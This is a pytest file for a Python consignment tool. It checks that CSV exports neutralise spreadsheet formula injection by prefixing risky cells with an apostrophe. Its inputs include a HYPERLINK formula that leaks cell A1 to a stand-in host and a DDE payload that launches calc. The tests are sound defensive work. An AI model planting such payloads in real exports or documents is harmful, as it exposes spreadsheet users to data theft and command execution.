"""The CSV that ``--format csv`` prints and the web's downloads send: a spreadsheet opens
it, so no text that someone typed (a name, a reason) may run there as a formula."""

import csv
import io
import json

import pytest

from consign.tabular import csv_cell, write_csv


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://example.com/?leak="&A1,"Lihat")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
    "-cmd|' /C calc'!A0", "+", "-", "-5%+1", "-%",
])
def test_text_a_spreadsheet_would_run_goes_out_behind_an_apostrophe(typed):
    assert csv_cell(typed) == "'" + typed


@pytest.mark.parametrize("value", [
    "Batik Tulis Celaket", "+6281234567890", "-15000", "+2.5", "-44.44%",
    "2020-10-05T14:30:00+07:00", "IKM-0001", "", "'=already quoted", -150000, 0, 12,
])
def test_plain_text_signed_numbers_and_numbers_go_out_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize(("typed", "sent"), [
    ("salah ketik;=1+1", "salah ketik;'=1+1"), ("Kain;-2+3", "Kain;'-2+3"),
    ('x; "=cmd|\' /C calc\'!A0', 'x; "\'=cmd|\' /C calc\'!A0'), ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
    ("\t=1", "\t'=1"), ("\r=1", "\r'=1"), ("a\r=1", "a\r'=1"), ("a\n@x", "a\n'@x"),
    ("  =1+1", "'  =1+1"), ("Batik; kain", "Batik; kain"), ("a;b;c", "a;b;c")])
def test_a_part_after_a_semicolon_or_a_tab_that_starts_like_a_formula_is_kept_text(typed, sent):
    """Excel in Indonesian splits a line at ";": each part becomes a cell of its own."""
    assert csv_cell(typed) == sent


def test_none_true_false_and_lists_are_written_as_json_writes_them():
    assert [csv_cell(v) for v in (None, True, False, ["a", 1], {"k": "=x"})] == [
        "", "true", "false", '["a", 1]', '{"k": "=x"}']
    assert csv_cell({"reason": "salah;=1+1"}) == '{"reason": "salah;\'=1+1"}'


def test_a_table_reads_back_with_its_formula_text_kept_as_text():
    out = io.StringIO()
    write_csv(out, ["code", "name", "amount"], [
        {"code": "IKM-1", "name": "=2+3", "amount": -5000},
        {"code": "IKM-2", "name": None, "amount": 0}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["code", "name", "amount"], ["IKM-1", "'=2+3", "-5000"], ["IKM-2", "", "0"]]
    from consign.web import agency  # the agency's downloads, as the app imports them

    sent = agency.agency_registers.csv_bytes(["name"], [{"name": "@x"}])
    assert sent == "\ufeffname\n'@x\n".encode()


def test_a_listing_in_csv_keeps_a_formula_typed_as_a_name_inert_and_json_keeps_it_as_typed(cli):
    name = '=HYPERLINK("http://example.com","klik")'
    added = cli("consignor", "add", "IKM-0666", "--name", name, "--owner", "+1+1",
                "--sector", "kriya")
    assert added.exit_code == 0, added.output
    rows = list(csv.DictReader(io.StringIO(cli("consignor", "list", "--format", "csv").output)))
    assert [(row["code"], row["name"]) for row in rows] == [("IKM-0666", "'" + name)]
    shown = json.loads(cli("consignor", "show", "IKM-0666", "--format", "json").output)
    assert (shown["name"], shown["owner"]) == (name, "+1+1")
